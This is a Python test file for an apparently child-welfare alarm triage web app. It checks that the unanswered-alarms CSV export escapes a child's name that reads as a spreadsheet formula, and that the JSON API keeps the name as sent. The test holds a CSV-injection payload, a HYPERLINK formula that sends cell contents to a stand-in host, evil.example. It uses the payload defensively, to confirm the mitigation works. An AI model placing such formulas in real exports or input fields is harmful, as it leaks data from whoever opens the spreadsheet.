"""A CSV download holds agency text (a child's name as an agency sent it); a spreadsheet must
read it as text, never as a formula (CSV injection, docs/security.md)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import select, update
from starlette.testclient import TestClient

from alarmbell.settings import Settings
from alarmbell.storage.db import session_scope
from alarmbell.storage.tables import PersonLink, PersonRecordRow
from alarmbell.web.app import create_app
from tests.auth_support import sign_in
from tests.web.conftest import populate

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Leo")'


def test_a_name_that_reads_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
    """Every agency's records name Leo with a formula (the ingest takes any text as a name):
    the unanswered-alarms CSV writes his name with a leading apostrophe, so a spreadsheet shows
    it rather than running it; the JSON keeps the name as sent."""
    store = populate(Settings(database_url=f"sqlite:///{tmp_path / 'store.db'}"))
    with session_scope(store.engine) as session:
        leo_records = select(PersonLink.person_record_id).where(
            PersonLink.person_id == store.leo_id, PersonLink.ended_at.is_(None)
        )
        session.execute(
            update(PersonRecordRow).where(PersonRecordRow.id.in_(leo_records)).values(given_name=FORMULA)
        )
    app = create_app(store.settings)
    with TestClient(app) as client:
        sign_in(client, role="reviewer")
        rows = list(csv.DictReader(io.StringIO(client.get("/triage/unanswered.csv").text)))
        listed = client.get("/api/v1/triage/unanswered").json()["listed"]
    app.state.engine.dispose()
    store.engine.dispose()
    leo = [row for row in rows if row["person_id"] == str(store.leo_id)]
    assert leo and {row["child"] for row in leo} == {f"'{FORMULA} Brennan"}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
    assert {row["child"] for row in listed if row["person_id"] == str(store.leo_id)} == {f"{FORMULA} Brennan"}
